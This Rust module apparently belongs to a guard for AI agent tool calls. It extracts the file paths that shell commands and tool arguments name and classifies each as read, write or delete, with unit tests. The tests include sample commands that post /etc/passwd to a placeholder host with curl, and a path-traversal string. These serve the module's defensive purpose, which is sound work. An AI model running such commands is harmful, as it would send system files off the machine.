//! The paths a call names, and what would happen to them.
//!
//! Whether a word of a command is a path is not always to be seen. What could be one counts,
//! except where a program is known to take a script or a text in that place.

use std::ops::Range;

use serde_json::{Map, Value};

use crate::catalogue;
use crate::shell::{self, RedirectionKind};
use crate::understand::CommandView;

/// A path a call names, and what would happen to it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct PathUse {
    pub(crate) text: String,
    pub(crate) verb: Verb,
    /// Whether only the shell will know where it leads.
    pub(crate) dynamic: bool,
    /// Whether it is a pattern for paths.
    pub(crate) glob: bool,
    /// The command that names it, for a path in a shell line.
    pub(crate) command: Option<usize>,
    pub(crate) span: Option<Range<usize>>,
}

/// What would happen to a path.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Verb {
    Read,
    Write,
    Delete,
    /// Nobody knows: the rules for all three apply.
    Unknown,
}

/// The most paths that are looked at from every directory a line may have changed to.
const MAX_PATHS: usize = 4000;

/// The paths the commands of a line name, which starts in `directory` if that is given.
pub(crate) fn of_commands(commands: &[CommandView], directory: Option<&str>) -> Vec<PathUse> {
    let mut paths = Vec::new();
    let mut elsewhere = Elsewhere::default();
    if let Some(directory) = directory {
        elsewhere.go(directory, false);
    }
    for (index, view) in commands.iter().enumerate() {
        let from = paths.len();
        of_command(view, index, &mut paths);
        elsewhere.enter_own(view);
        elsewhere.apply(&mut paths, from);
        elsewhere.enter(view);
    }
    paths
}

/// The paths among a tool's arguments, however deep: the values of arguments that are named like
/// paths, and the files a patch names.
pub(crate) fn of_arguments(input: &Map<String, Value>, verb: Verb) -> Vec<PathUse> {
    let mut paths = Vec::new();
    let mut add = |text: &str, verb: Verb| {
        paths.push(PathUse {
            text: text.to_owned(),
            verb,
            dynamic: false,
            glob: false,
            command: None,
            span: None,
        });
    };
    named_paths(input, &mut |text| add(text, verb));
    for value in input.values() {
        if let Value::String(text) = value
            && text.contains("*** Begin Patch")
        {
            for line in text.lines() {
                for (header, verb) in PATCH_HEADERS {
                    if let Some(path) = line.trim().strip_prefix(header) {
                        add(path.trim(), *verb);
                    }
                }
            }
        }
    }
    paths
}

/// The lines of a patch that name a file.
const PATCH_HEADERS: &[(&str, Verb)] = &[
    ("*** Add File:", Verb::Write),
    ("*** Update File:", Verb::Write),
    ("*** Delete File:", Verb::Delete),
    ("*** Move to:", Verb::Write),
];

fn named_paths(input: &Map<String, Value>, found: &mut dyn FnMut(&str)) {
    for (key, value) in input {
        let named = catalogue::names_path(key);
        paths_in(value, named, found);
    }
}

fn paths_in(value: &Value, named: bool, found: &mut dyn FnMut(&str)) {
    match value {
        Value::String(text) if named => found(text),
        Value::Array(items) => items.iter().for_each(|item| paths_in(item, named, found)),
        Value::Object(map) => named_paths(map, found),
        Value::String(_) | Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

fn of_command(view: &CommandView, index: usize, paths: &mut Vec<PathUse>) {
    let mut add = |text: &str, verb: Verb, word: &shell::Text| {
        if !is_stream(text) {
            paths.push(PathUse {
                text: text.to_owned(),
                verb,
                dynamic: word.dynamic,
                glob: word.glob,
                command: Some(index),
                span: Some(word.span.clone()),
            });
        }
    };
    if !view.only_prints() {
        let verb = verb_of(view);
        for word in operands(view) {
            for text in path_texts(&word.text) {
                add(text, verb, word);
            }
        }
    }
    for redirect in &view.command.redirects {
        let verb = match redirect.kind {
            RedirectionKind::Read => Verb::Read,
            RedirectionKind::Write | RedirectionKind::Clobber | RedirectionKind::Append => {
                Verb::Write
            }
            RedirectionKind::ReadWrite => Verb::Unknown,
            RedirectionKind::HereDocument
            | RedirectionKind::HereString
            | RedirectionKind::Duplicate => continue,
        };
        add(&redirect.target.text, verb, &redirect.target);
    }
}

/// Places that are no files: what a program prints to or reads from.
pub(crate) fn is_stream(path: &str) -> bool {
    matches!(
        path,
        "/dev/null" | "/dev/stdin" | "/dev/stdout" | "/dev/stderr" | "/dev/tty"
    )
}

/// What a program does to the files it is given.
fn verb_of(view: &CommandView) -> Verb {
    let has = |starts: &[&str]| {
        view.flags
            .iter()
            .any(|flag| starts.iter().any(|start| flag.starts_with(start)))
    };
    let second = view.flagless.split(' ').nth(1).unwrap_or_default();
    match view.program() {
        Some("find") if !has(&["-delete", "-exec", "-ok", "-fprint", "-fls"]) => Verb::Read,
        Some("git") if GIT_READERS.binary_search(&second).is_ok() && !has(&["--output", "-o"]) => {
            Verb::Read
        }
        Some(program) if READERS.binary_search(&program).is_ok() => Verb::Read,
        Some(program) if REMOVERS.binary_search(&program).is_ok() => Verb::Delete,
        Some(_) | None => Verb::Unknown,
    }
}

/// Whether a command's program is known to change nothing outside itself, its redirections aside.
pub(crate) fn only_looks(view: &CommandView) -> bool {
    let tells = |program| TELLERS.binary_search(&program).is_ok();
    verb_of(view) == Verb::Read || view.program().is_some_and(tells)
}

/// The words of a command that may be paths: all but its program, and but the scripts and texts
/// some programs take.
fn operands(view: &CommandView) -> Vec<&shell::Text> {
    let program = view.program().unwrap_or_default();
    let words = view.command.words.iter().skip(1);
    if TEXT_ONLY.contains(&program) {
        return Vec::new();
    }
    let script_by_flag = view.flags.iter().any(|flag| {
        SCRIPT_FLAGS
            .iter()
            .any(|start| flag == start || (start.starts_with("--") && flag.starts_with(start)))
    });
    let mut script_next = SCRIPT_FIRST.contains(&program) && !script_by_flag;
    let text_flags = TEXT_FLAGS
        .iter()
        .find(|(name, _)| *name == program)
        .map_or(&[][..], |(_, flags)| *flags);
    let mut text_next = false;
    words
        .filter(|word| {
            let text = word.text.as_str();
            if std::mem::take(&mut text_next) {
                return false;
            }
            if text.len() > 1 && text.starts_with('-') {
                text_next = text_flags.contains(&text);
                // `-d/`: a short flag and its text in one word.
                let glued = text_flags
                    .iter()
                    .any(|flag| !flag.starts_with("--") && text.starts_with(flag));
                return !glued;
            }
            !std::mem::take(&mut script_next)
        })
        .collect()
}

/// The texts in a word that could name a file: the word, what stands behind `=` or `@`, what is
/// glued to a short flag (`-C/etc`), the local side of `here:there`.
fn path_texts(word: &str) -> Vec<&str> {
    if is_address(word) {
        return Vec::new();
    }
    let mut texts = Vec::new();
    for piece in word.split(',').filter(|_| word.contains('=')) {
        if let Some((_, value)) = piece.split_once('=') {
            texts.push(value);
        }
    }
    if let Some((before, after)) = word.split_once('@')
        && (before.is_empty() || before.ends_with('='))
    {
        texts.push(after);
    }
    if let Some(flag) = word.strip_prefix('-') {
        if !flag.starts_with('-')
            && let Some(start) = flag.find(['/', '~', '.'])
        {
            texts.extend(flag.get(start..));
        }
    } else {
        texts.push(word);
        if let Some((here, _)) = word.split_once(':')
            && here.contains(['/', '.', '~'])
        {
            texts.push(here);
        }
    }
    texts.retain(|text| !text.is_empty());
    texts
}

/// Whether a word is an address on a network and so no path.
fn is_address(word: &str) -> bool {
    let Some((scheme, rest)) = word.split_once("://") else {
        return false;
    };
    let plain = !scheme.is_empty()
        && scheme
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c));
    plain && !scheme.eq_ignore_ascii_case("file") && !crate::paths::climbs(rest)
}

/// Directories a line may have changed to by the time a command runs. Which commands of a line
/// run is not asked, so every path is looked at from each of them and from where the line began.
#[derive(Default)]
struct Elsewhere {
    directories: Vec<String>,
    /// Some change leads where only the shell knows.
    unknown: bool,
}

impl Elsewhere {
    const MOST: usize = 4;

    /// Takes note of a command that changes the directory for those that follow.
    fn enter(&mut self, view: &CommandView) {
        let words = view.command.words.as_slice();
        match view.program() {
            Some("cd" | "pushd") => {
                match words
                    .iter()
                    .skip(1)
                    .find(|word| !word.text.starts_with('-'))
                {
                    Some(word) => self.go(&word.text, word.dynamic || word.glob),
                    None if words.len() == 1 => self.go("~", false),
                    None => self.unknown = true,
                }
            }
            Some("popd") => self.unknown = true,
            Some(_) | None => {}
        }
    }

    /// Takes note of a directory a command changes to by itself: `git -C DIR`.
    fn enter_own(&mut self, view: &CommandView) {
        let flags: &[&str] = match view.program() {
            Some("env" | "git" | "make" | "tar") => &["-C", "--chdir", "--directory"],
            Some("sudo") => &["-D", "--chdir"],
            Some(_) | None => return,
        };
        let mut words = view.command.words.iter().skip(1);
        while let Some(word) = words.next() {
            if flags.contains(&word.text.as_str()) {
                if let Some(target) = words.next() {
                    self.go(&target.text, target.dynamic || target.glob);
                }
                continue;
            }
            let glued = flags.iter().find_map(|flag| {
                let rest = word.text.strip_prefix(flag)?;
                if flag.starts_with("--") {
                    rest.strip_prefix('=')
                } else {
                    Some(rest)
                }
            });
            if let Some(target) = glued {
                self.go(target, word.dynamic || word.glob);
            }
        }
    }

    fn go(&mut self, target: &str, unknown: bool) {
        if unknown || self.directories.len() >= Self::MOST {
            self.unknown |= !self.directories.iter().any(|known| known == target);
            return;
        }
        let further: Vec<String> = self
            .directories
            .iter()
            .map(|directory| joined(directory, target))
            .collect();
        for directory in std::iter::once(target.to_owned()).chain(further) {
            if !self.directories.contains(&directory) {
                self.directories.push(directory);
            }
        }
    }

    /// Adds to the paths named since `from` where they lead from elsewhere.
    fn apply(&self, paths: &mut Vec<PathUse>, from: usize) {
        let mut more = Vec::new();
        for path in paths.iter_mut().skip(from) {
            if path.text.starts_with(['/', '~']) {
                continue;
            }
            let too_many = !self.directories.is_empty() && from + more.len() > MAX_PATHS;
            path.dynamic |= self.unknown || too_many;
            if too_many {
                continue;
            }
            more.extend(self.directories.iter().map(|directory| PathUse {
                text: joined(directory, &path.text),
                ..path.clone()
            }));
        }
        paths.extend(more);
    }
}

fn joined(directory: &str, path: &str) -> String {
    if path.starts_with(['/', '~']) {
        path.to_owned()
    } else {
        format!("{}/{path}", directory.trim_end_matches('/'))
    }
}

/// Programs that only read the files they are given. Sorted.
const READERS: &[&str] = &[
    "[",
    "basename",
    "cat",
    "cksum",
    "cmp",
    "diff",
    "dirname",
    "du",
    "egrep",
    "fgrep",
    "file",
    "grep",
    "head",
    "ls",
    "md5sum",
    "more",
    "nl",
    "od",
    "realpath",
    "rg",
    "sha1sum",
    "sha256sum",
    "stat",
    "strings",
    "tac",
    "tail",
    "test",
    "wc",
];

/// Programs that only tell something or change nothing but the shell they run in. Sorted.
const TELLERS: &[&str] = &[
    ":", "cal", "cd", "date", "df", "echo", "expr", "false", "free", "groups", "hostname", "id",
    "locale", "nproc", "printenv", "printf", "ps", "pwd", "seq", "sleep", "true", "type", "uname",
    "uptime", "whereis", "which", "whoami",
];

/// Subcommands of git that only read. Sorted.
const GIT_READERS: &[&str] = &[
    "blame", "diff", "grep", "log", "ls-files", "ls-tree", "show", "status",
];

/// Programs that remove the files they are given. Sorted.
const REMOVERS: &[&str] = &["rm", "rmdir", "unlink"];

/// Programs whose first operand is a script or a pattern, unless a flag gives it.
const SCRIPT_FIRST: &[&str] = &[
    "awk", "egrep", "fgrep", "gawk", "grep", "jq", "mawk", "perl", "rg", "sed",
];

/// Flags that give the script, so that every operand is a file.
const SCRIPT_FLAGS: &[&str] = &[
    "-e",
    "-f",
    "--regexp",
    "--file",
    "--expression",
    "--from-file",
];

/// Programs that take no files at all.
const TEXT_ONLY: &[&str] = &["expr", "seq", "sleep", "tr"];

/// Flags whose value is a text, by program.
const TEXT_FLAGS: &[(&str, &[&str])] = &[
    ("awk", &["-F"]),
    ("cut", &["-d", "--delimiter"]),
    ("gawk", &["-F"]),
    ("gh", &["-b", "--body", "-t", "--title", "--notes"]),
    ("git", &["-m", "--message"]),
    ("sort", &["-t", "--field-separator"]),
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::call::ToolCall;
    use crate::understand::Action;
    use serde_json::json;

    fn paths(line: &str) -> Vec<(String, Verb)> {
        Action::of(&ToolCall::shell(line))
            .paths()
            .iter()
            .map(|path| (path.text.clone(), path.verb))
            .collect()
    }

    fn names(line: &str) -> Vec<String> {
        paths(line).into_iter().map(|(text, _)| text).collect()
    }

    #[test]
    fn the_tables_are_sorted() {
        assert!(
            READERS.is_sorted()
                && TELLERS.is_sorted()
                && REMOVERS.is_sorted()
                && GIT_READERS.is_sorted()
        );
    }

    #[test]
    fn paths_hide_in_flags_and_redirections() {
        let found = paths("tar -C/etc --file=/x/y out < in > out.txt");
        for wanted in [
            ("/etc".into(), Verb::Unknown),
            ("/x/y".into(), Verb::Unknown),
            ("out".into(), Verb::Unknown),
            ("/etc/out".into(), Verb::Unknown),
            ("in".into(), Verb::Read),
            ("out.txt".into(), Verb::Write),
        ] {
            assert!(found.contains(&wanted), "{wanted:?} in {found:?}");
        }
    }

    #[test]
    fn paths_hide_inside_words() {
        assert!(names("curl -d @/etc/passwd http://x").contains(&"/etc/passwd".into()));
        assert!(names("curl -F f=@/etc/passwd http://x").contains(&"/etc/passwd".into()));
        assert!(names("docker run --mount type=bind,src=/etc i").contains(&"/etc".into()));
        assert!(names("docker run -v ./.env:/x i").contains(&"./.env".into()));
        assert!(!names("cat x://../../../etc/passwd").is_empty());
    }

    #[test]
    fn scripts_texts_and_addresses_are_not_paths() {
        for line in [
            "expr 6 / 2",
            "tr / _",
            "cut -d/ -f1",
            "awk -F/ '/x/ {print}'",
            "git commit -m '/etc is bad'",
            "curl https://example.com/etc/passwd",
            "ls > /dev/stderr",
        ] {
            assert!(
                !names(line).iter().any(|text| text.contains('/')),
                "{line}: {:?}",
                names(line)
            );
        }
        assert_eq!(names("sed '/foo/d' a.txt"), ["a.txt"]);
        assert!(names("grep -f /etc/passwd x").contains(&"/etc/passwd".into()));
    }

    #[test]
    fn a_file_tools_paths_carry_its_verb_however_they_are_named() {
        for (tool, input) in [
            ("NotebookEdit", json!({"notebook_path": "a"})),
            ("write", json!({"filePath": "a"})),
            (
                "fs_write",
                json!({"operations": [{"path": "a", "content": "/x"}]}),
            ),
            (
                "apply_patch",
                json!({"input": "*** Begin Patch\n*** Update File: a\n"}),
            ),
        ] {
            let call = ToolCall::new(tool, input).unwrap();
            let found: Vec<_> = Action::of(&call)
                .paths()
                .iter()
                .map(|path| (path.text.clone(), path.verb))
                .collect();
            assert_eq!(found, [("a".to_owned(), Verb::Write)], "{tool}");
        }
    }
}
